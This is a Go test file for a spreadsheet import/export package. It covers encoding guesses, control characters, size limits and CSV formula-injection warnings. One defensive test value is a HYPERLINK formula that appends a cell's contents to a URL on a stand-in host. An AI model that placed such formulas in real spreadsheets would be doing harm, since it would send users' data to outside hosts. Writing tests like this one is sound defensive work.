package sheets

import (
	"bytes"
	"fmt"
	"strings"
	"testing"

	"golang.org/x/text/encoding/charmap"
	"golang.org/x/text/encoding/japanese"
)

// cellFindings returns the findings of the sheet on cells of the given columns, as the
// CLI prints them.
func cellFindings(s *Sheet, columns ...string) []string {
	var out []string
	for _, f := range Validate([]*Sheet{s}, nil) {
		for _, c := range columns {
			if f.Row > 0 && f.Col >= 0 && f.Column == c {
				out = append(out, f.String())
			}
		}
	}
	return out
}

func wantFindings(t *testing.T, got []string, want ...string) {
	t.Helper()
	if len(got) != len(want) {
		t.Fatalf("findings:\n%s\nwant:\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
	for i := range want {
		if !strings.Contains(got[i], want[i]) {
			t.Errorf("finding %q\ndoes not say %q", got[i], want[i])
		}
	}
}

func readBytes(t *testing.T, b []byte, opt ReadOptions) *Sheet {
	t.Helper()
	opt.Object = ioObject
	return mustRead(t)(ReadCSV(bytes.NewReader(b), "in.csv", opt))
}

// TestReadShiftJIS: a Japanese file read as Windows-1252 is an error on each cell with
// its text, naming the encoding assumed and the ones the bytes fit; chosen, it reads right.
func TestReadShiftJIS(t *testing.T) {
	text := "Name,Description,Channel Type\r\n東京本社,日本語のテスト,CHAT\r\n大阪,Osaka,CHAT\r\n"
	sjis, err := japanese.ShiftJIS.NewEncoder().String(text)
	if err != nil {
		t.Fatal(err)
	}
	s := readBytes(t, []byte(sjis), ReadOptions{})
	wantFindings(t, cellFindings(s, "Name", "Description"),
		`in.csv:2:Name: error: Name "“Œ‹ž–{ŽÐ" does not read as text: the file was read as windows-1252, a guess, and its letters fit no language; it may be in shift_jis`,
		`in.csv:2:Description: error: Description "“ú–{Œê‚ÌƒeƒXƒg" does not read as text`,
		`in.csv:3:Name: error: Name "‘å`)
	s = readBytes(t, []byte(sjis), ReadOptions{Encoding: "shift_jis"})
	wantTable(t, s, [][]string{{"Name", "Description", "Channel Type"}, {"東京本社", "日本語のテスト", "CHAT"}, {"大阪", "Osaka", "CHAT"}})
	wantFindings(t, cellFindings(s, "Name", "Description"))
}

// TestReadMixedEncodings: a Windows-1252 line in a UTF-8 file reads as what it says, with
// a warning on its cell; so does one past the first 64 KB. Told the file is UTF-8, the
// reader refuses it instead.
func TestReadMixedEncodings(t *testing.T) {
	in := "Name,Description,Channel Type\r\nCafé Praha,Žluťoučký kůň,CHAT\r\nCaf\xe9 Brno,x,CHAT\r\nNové Město,y,CHAT\r\n"
	s := readBytes(t, []byte(in), ReadOptions{})
	wantTable(t, s, [][]string{{"Name", "Description", "Channel Type"},
		{"Café Praha", "Žluťoučký kůň", "CHAT"}, {"Café Brno", "x", "CHAT"}, {"Nové Město", "y", "CHAT"}})
	wantFindings(t, cellFindings(s, "Name", "Description"),
		`in.csv:3:Name: warning: Name "Café Brno" was not UTF-8 like the rest of the file: it was read as windows-1252, a guess; check it (the file mixes encodings: save it again as CSV UTF-8)`)

	var late strings.Builder
	late.WriteString("Name,Channel Type\r\n")
	for i := 0; i < 8000; i++ {
		fmt.Fprintf(&late, "Žižkov %d,CHAT\r\n", i)
	}
	late.WriteString("Dvo\xf8\xe1k,CHAT\r\n")
	s = readBytes(t, []byte(late.String()), ReadOptions{})
	if got := s.Rows[8000].Cells[0]; got != "Dvořák" {
		t.Errorf("the late 1250 line reads %q", got)
	}
	wantFindings(t, cellFindings(s, "Name"), `in.csv:8002:Name: warning: Name "Dvořák" was not UTF-8 like the rest of the file: it was read as windows-1250, a guess`)

	_, err := ReadCSV(strings.NewReader(in), "in.csv", ReadOptions{Object: ioObject, Encoding: "utf-8"})
	wantErr(t, err, "in.csv:3:Name: the text is not valid utf-8, the encoding chosen (the file mixes encodings?)")
}

// TestReadAmbiguousCodePage: one ø decides nothing between 1250 and 1252; the guess says
// what the cell would read in the other code page.
func TestReadAmbiguousCodePage(t *testing.T) {
	raw, _ := charmap.Windows1252.NewEncoder().String("Name,Channel Type\r\nBjørn,CHAT\r\nOslo,CHAT\r\n")
	s := readBytes(t, []byte(raw), ReadOptions{})
	wantFindings(t, cellFindings(s, "Name"),
		`in.csv:2:Name: warning: Name "Bjřrn" was read as windows-1250, a guess from too few letters; in windows-1252 it reads "Bjørn". If that is right, open the file again choosing windows-1252`)
	s = readBytes(t, []byte(raw), ReadOptions{Encoding: Windows1252})
	if s.Rows[0].Cells[0] != "Bjørn" {
		t.Errorf("chosen 1252 reads %q", s.Rows[0].Cells[0])
	}
	wantFindings(t, cellFindings(s, "Name"))

	// Enough Czech letters make the guess sure: no finding.
	cz, _ := charmap.Windows1250.NewEncoder().String("Name,Description,Channel Type\r\nPříliš žluťoučký kůň,úpěl ďábelské ódy,CHAT\r\nČeské Budějovice,Řeřicha,CHAT\r\n")
	s = readBytes(t, []byte(cz), ReadOptions{})
	if s.Rows[0].Cells[0] != "Příliš žluťoučký kůň" {
		t.Errorf("Czech reads %q", s.Rows[0].Cells[0])
	}
	wantFindings(t, cellFindings(s, "Name", "Description"))
}

// TestReplacementCharacter: a cell holding U+FFFD is an error, naming the encoding the
// file was read in when the sheet came from a text file.
func TestReplacementCharacter(t *testing.T) {
	raw := []byte("\xff\xfeN\x00a\x00m\x00e\x00,\x00C\x00h\x00a\x00n\x00n\x00e\x00l\x00 \x00T\x00y\x00p\x00e\x00\r\x00\n\x00" +
		"A\x00\x00\xd8,\x00C\x00H\x00A\x00T\x00\r\x00\n\x00") // an unpaired surrogate
	s := readBytes(t, raw, ReadOptions{Encoding: UTF16LE})
	wantFindings(t, cellFindings(s, "Name"),
		`in.csv:2:Name: error: Name "A�" holds �, a character that could not be read in utf-16le, the encoding chosen; open the file again choosing its encoding`)
	b := workbook(t, ws{"S", [][]any{{"Name", "Channel Type"}, {"Caf\uFFFD", "CHAT"}}})
	s = mustRead(t)(ReadXLSX(bytes.NewReader(b), "in.xlsx", ReadOptions{Object: ioObject}))
	wantFindings(t, cellFindings(s, "Name"), `in.xlsx:2:Name: error: Name "Caf�" holds �, a character lost before the text reached Bulkops; type it again`)
}

// TestControlCharacters: NUL, ESC, other C0 controls and DEL are an error on their cell,
// in known and unknown columns alike; tab and line breaks in text are not. No writer
// writes them raw.
func TestControlCharacters(t *testing.T) {
	in := "Name,Description,Channel Type,Note\r\n" +
		"A\x1b[31m,\"two\tlines\nhere\",CHAT,x\x00y\r\n" +
		"B\x7f,ok,CHAT,\r\n"
	s := readBytes(t, []byte(in), ReadOptions{})
	wantFindings(t, cellFindings(s, "Name", "Description", "Note"),
		`in.csv:2:Name: error: Name holds the control character ESC (U+001B) at character 2; it is invisible, and programs cut the text at it or refuse it: delete it`,
		`in.csv:2:Note: error: Note holds the control character NUL (U+0000) at character 2`,
		`in.csv:3:Name: error: Name holds the control character DEL (U+007F) at character 2`)

	var csv bytes.Buffer
	if err := WriteCSV(&csv, s); err != nil {
		t.Fatal(err)
	}
	if strings.ContainsAny(csv.String(), "\x00\x1b\x7f") {
		t.Errorf("WriteCSV wrote control characters raw: %q", csv.String())
	}
	want := "Name,Description,Channel Type,Note\r\nA␛[31m,\"two\tlines\nhere\",CHAT,x␀y\r\nB␡,ok,CHAT,\r\n"
	if csv.String() != want {
		t.Errorf("WriteCSV wrote\n%q\nwant\n%q", csv.String(), want)
	}
	var x bytes.Buffer
	if err := WriteXLSX(&x, s, nil); err != nil {
		t.Fatal(err)
	}
	if xml := zipEntry(t, x.Bytes(), "xl/worksheets/sheet1.xml"); bytes.ContainsAny(xml, "\x00\x1b\x7f") || !bytes.Contains(xml, []byte("A␛[31m")) {
		t.Errorf("WriteXLSX wrote control characters raw: %q", xml)
	}
}

// TestFormulaValues: values a spreadsheet would run are a warning on their cell, but not
// a phone number's + or a negative number in columns of those types. Files for people
// protect them with a ', reading such a file back takes it off, so the round trip changes
// nothing; a package (WriteCSV) keeps them as typed.
func TestFormulaValues(t *testing.T) {
	s := &Sheet{Object: ioObject, File: "in.csv"}
	for _, h := range []string{"Name", "Description", "Phone", "Max Time", "Channel Type"} {
		s.Columns = append(s.Columns, Column{Header: h, Spec: &ioObject.Columns[ioObject.Column(h)]})
	}
	s.Rows = []Row{
		{Cells: []string{"=HYPERLINK(\"http://x.example/?\"&A1,\"Help\")", "@SUM(1)", "+420 222 123 456", "-5", "CHAT"}},
		{Cells: []string{"-Team", "'=already quoted", "=1+1", "+30", "CHAT"}, Message: "=bad"},
		{Cells: []string{"Plain", "\tTabbed", "", "", "CHAT"}},
	}
	wantFindings(t, cellFindings(s, "Name", "Description", "Phone", "Max Time"),
		`in.csv:2:Name: warning: Name "=HYPERLINK(\"http://x.example/?\"&A1,\"Help"… starts with =, so Excel would run it as a formula in a CSV file; Bulkops protects it in the CSV files it writes for people and sends it as typed: check it is meant`,
		`in.csv:2:Description: warning: Description "@SUM(1)" starts with @`,
		`in.csv:3:Name: warning: Name "-Team" starts with -`,
		`in.csv:3:Phone: error: Phone "=1+1" is not a phone number`,
		`in.csv:3:Phone: warning: Phone "=1+1" starts with =`,
		`in.csv:4:Description: warning: Description "\tTabbed" has spaces at the start or end`,
		`in.csv:4:Description: warning: Description "\tTabbed" starts with a tab`)

	var people bytes.Buffer
	if err := WriteErrorCSVWith(&people, s, WriteOptions{ProtectFormulas: true}); err != nil {
		t.Fatal(err)
	}
	want := "Name,Description,Phone,Max Time,Channel Type,Error Message\r\n" +
		"\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"Help\"\")\",'@SUM(1),'+420 222 123 456,-5,CHAT,\r\n" +
		"'-Team,''=already quoted,'=1+1,'+30,CHAT,'=bad\r\n" +
		"Plain,\"'\tTabbed\",,,CHAT,\r\n"
	if people.String() != want {
		t.Errorf("the error file is\n%q\nwant\n%q", people.String(), want)
	}
	back := mustRead(t)(ReadCSV(bytes.NewReader(people.Bytes()), "back.csv", ReadOptions{Object: ioObject, Unprotect: true}))
	if !equalTables(table(back), table(s)) || !equalTables([][]string{messages(back)}, [][]string{messages(s)}) {
		t.Errorf("the round trip changed the sheet:%s\nto%s", show(table(s)), show(table(back)))
	}

	var pkg bytes.Buffer
	if err := WriteCSV(&pkg, s); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(pkg.String(), "-Team,'=already quoted,=1+1,+30,") {
		t.Errorf("a package changed the values: %q", pkg.String())
	}
	if got := (WriteOptions{ProtectFormulas: true}).Apply(s); got == s || got.Rows[1].Cells[0] != "'-Team" || s.Rows[1].Cells[0] != "-Team" {
		t.Errorf("Apply gives %q and leaves %q", got.Rows[1].Cells[0], s.Rows[1].Cells[0])
	}
}

func equalTables(a, b [][]string) bool {
	if len(a) != len(b) {
		return false
	}
	for i := range a {
		if strings.Join(a[i], "\x00") != strings.Join(b[i], "\x00") || len(a[i]) != len(b[i]) {
			return false
		}
	}
	return true
}

// TestReadCSVTextLimit: a CSV is held to the same bound on the text built as a workbook.
func TestReadCSVTextLimit(t *testing.T) {
	defer func(m int64) { MaxSheetText = m }(MaxSheetText)
	MaxSheetText = 10 << 10
	in := "Name,Description\r\n" + strings.Repeat("A,"+strings.Repeat("d", 1000)+"\r\n", 20)
	_, err := ReadCSV(strings.NewReader(in), "big.csv", ReadOptions{Object: ioObject})
	wantErr(t, err, "big.csv:12: the cells up to this row hold more than 10 KB of text, the most one sheet may hold; refused")
}

// TestGarbled: Japanese read in either code page is garbled, however short; the text of
// the code pages' own languages, curly quotes and all, is not.
func TestGarbled(t *testing.T) {
	for _, jp := range []string{"東京本社の休憩", "日本語のテスト、東京都", "大阪支店"} {
		b, _ := japanese.ShiftJIS.NewEncoder().String(jp)
		for _, cm := range []*charmap.Charmap{charmap.Windows1250, charmap.Windows1252} {
			if !garbled([]byte("Name\r\n"+b+"\r\n"), cm) {
				t.Errorf("%s in Shift-JIS read in %v is not garbled", jp, cm)
			}
		}
	}
	for _, c := range []struct {
		text string
		cm   *charmap.Charmap
	}{
		{"Příliš žluťoučký kůň úpěl ďábelské ódy, Čeněk Šťastný, Říčany", charmap.Windows1250},
		{"Źdźbło, Łódź, Gdańsk, Kraków, żółć", charmap.Windows1250},
		{"Müller, Straße, Café, Crème brûlée, Ærøskøbing, niño, “quoted” – yes…", charmap.Windows1252},
		{"ÉCOLE SUPÉRIEURE, GRÜSS GOTT, SÃO PAULO", charmap.Windows1252},
	} {
		b, err := c.cm.NewEncoder().String(c.text)
		if err != nil {
			t.Fatal(err)
		}
		if garbled([]byte(b), c.cm) {
			t.Errorf("%q read in its code page is garbled", c.text)
		}
	}
}
